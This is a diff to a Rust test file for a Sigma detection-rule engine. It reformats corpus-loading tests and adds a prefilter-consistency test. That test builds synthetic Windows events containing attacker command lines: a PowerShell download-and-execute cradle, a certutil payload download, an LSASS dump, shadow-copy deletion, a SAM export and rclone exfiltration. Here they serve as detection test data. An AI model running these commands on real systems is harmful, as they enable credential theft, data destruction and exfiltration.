@@ -22,13 +22,24 @@ fn placeholders() -> Placeholders {
 #[test]
 fn sigmahq_corpus_loads() {
     let Some(base) = corpus() else { return };
-    let dirs = ["rules", "rules-emerging-threats", "rules-threat-hunting", "rules-compliance", "rules-placeholder"];
+    let dirs = [
+        "rules",
+        "rules-emerging-threats",
+        "rules-threat-hunting",
+        "rules-compliance",
+        "rules-placeholder",
+    ];
     let paths: Vec<PathBuf> = dirs.iter().map(|d| base.join("full").join(d)).collect();
     let ph = placeholders();
     let (set, report) = RuleSet::load(&paths, Some(&ph));
     let mut unexpected = Vec::new();
     for (e, r) in report.rejected() {
-        println!("rejected {}#{} [{}]: {r}", e.file.display(), e.doc, e.id.as_deref().unwrap_or("-"));
+        println!(
+            "rejected {}#{} [{}]: {r}",
+            e.file.display(),
+            e.doc,
+            e.id.as_deref().unwrap_or("-")
+        );
         if r.kind != RejectKind::LegacyAggregation {
             unexpected.push(format!("{}: {r}", e.file.display()));
         }
@@ -44,13 +55,19 @@ fn sigmahq_corpus_loads() {
     for w in &report.warnings {
         println!("warning: {w}");
     }
-    assert!(unexpected.is_empty(), "unexpected rejections:\n{}", unexpected.join("\n"));
+    assert!(
+        unexpected.is_empty(),
+        "unexpected rejections:\n{}",
+        unexpected.join("\n")
+    );
     assert_eq!(set.len(), report.loaded_rules());
     assert!(set.len() > 3500, "only {} rules loaded", set.len());
     // Every rule in rules-placeholder resolved its placeholders.
     let placeholder_rules = report
         .loaded()
-        .filter(|e| e.kind == DocKind::Rule && e.file.to_string_lossy().contains("rules-placeholder"))
+        .filter(|e| {
+            e.kind == DocKind::Rule && e.file.to_string_lossy().contains("rules-placeholder")
+        })
         .count();
     assert_eq!(placeholder_rules, 23);
 }
@@ -62,7 +79,12 @@ fn placeholder_rules_without_map_are_rejected_precisely() {
     let rejected: Vec<_> = report.rejected().collect();
     assert!(!rejected.is_empty());
     for (e, r) in rejected {
-        assert_eq!(r.kind, RejectKind::UnresolvedPlaceholder, "{}: {r}", e.file.display());
+        assert_eq!(
+            r.kind,
+            RejectKind::UnresolvedPlaceholder,
+            "{}: {r}",
+            e.file.display()
+        );
         assert!(r.detail.contains("placeholder %"), "{r}");
     }
 }
@@ -72,11 +94,23 @@ fn unsupported_corpus_is_rejected_gracefully() {
     let Some(base) = corpus() else { return };
     let (_, report) = RuleSet::load(&[base.join("full/unsupported")], None);
     let by_kind = report.rejected_by_kind();
-    println!("unsupported/: loaded {}, rejected {by_kind:?}", report.loaded_rules());
-    for (e, r) in report.rejected().filter(|(_, r)| r.kind != RejectKind::LegacyAggregation) {
+    println!(
+        "unsupported/: loaded {}, rejected {by_kind:?}",
+        report.loaded_rules()
+    );
+    for (e, r) in report
+        .rejected()
+        .filter(|(_, r)| r.kind != RejectKind::LegacyAggregation)
+    {
         println!("  {}: {r}", e.file.display());
     }
-    assert!(by_kind.get(&RejectKind::LegacyAggregation).copied().unwrap_or(0) > 50);
+    assert!(
+        by_kind
+            .get(&RejectKind::LegacyAggregation)
+            .copied()
+            .unwrap_or(0)
+            > 50
+    );
 }
 
 #[test]
@@ -98,4 +132,70 @@ fn spec_examples() {
         assert_eq!(r.detail, "correlation rule: not supported yet");
     }
     assert_eq!(report.rejected().count(), 8);
+}
+
+/// The prefilter changes speed, never results: compare with and without it.
+#[test]
+fn prefilter_is_transparent_on_the_corpus() {
+    let Some(base) = corpus() else { return };
+    let (set, _) = RuleSet::load(&[base.join("full/rules/windows")], None);
+    assert!(set.has_prefilter());
+    let gated = set
+        .rules()
+        .iter()
+        .filter(|r| r.required_literals.is_some())
+        .count();
+    println!(
+        "{gated} of {} windows rules have a required-literal set",
+        set.len()
+    );
+    let plain = set.clone().without_prefilter();
+    let lines = [
+        ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
+        ("CommandLine", "powershell -nop -w hidden -enc SQBFAFgA IEX (New-Object Net.WebClient).DownloadString('http://x')"),
+        ("Image", "C:\\Windows\\System32\\certutil.exe"),
+        ("CommandLine", "certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"),
+        ("Image", "C:\\Windows\\System32\\rundll32.exe"),
+        ("CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"),
+        ("CommandLine", "vssadmin delete shadows /all /quiet"),
+        ("CommandLine", "reg save HKLM\\SAM C:\\temp\\sam.save"),
+        ("CommandLine", "rclone.exe copy C:\\data mega:backup"),
+    ];
+    let mut total = 0;
+    for (i, (k, v)) in lines.iter().enumerate() {
+        let ev = event_pc(
+            &[
+                (k, v),
+                ("ParentImage", "C:\\Windows\\explorer.exe"),
+                ("User", "CORP\\bob"),
+            ],
+            i,
+        );
+        let (mut a, mut b) = (Vec::new(), Vec::new());
+        set.matches(&ev, &mut Default::default(), &mut a);
+        plain.matches(&ev, &mut Default::default(), &mut b);
+        assert_eq!(a, b, "{k}={v}");
+        total += a.len();
+    }
+    println!("{total} matches, identical with and without the prefilter");
+    assert!(total > 5);
+}
+
+fn event_pc(fields: &[(&str, &str)], n: usize) -> outflow_event::Event {
+    use outflow_event::{Event, LogSource, Origin, Position, SourceKind};
+    use std::sync::Arc;
+    let origin = Origin {
+        file: Arc::from("t"),
+        position: Position::Record(n as u64),
+    };
+    let mut ev = Event::new(SourceKind::Evtx, origin, "");
+    for (k, v) in fields {
+        ev.push_str(Arc::from(*k), v);
+    }
+    ev.logsources = Arc::from(vec![LogSource {
+        product: Some(Arc::from("windows")),
+        category: Some(Arc::from("process_creation")),
+        service: None,
+    }]);
+    ev
 }
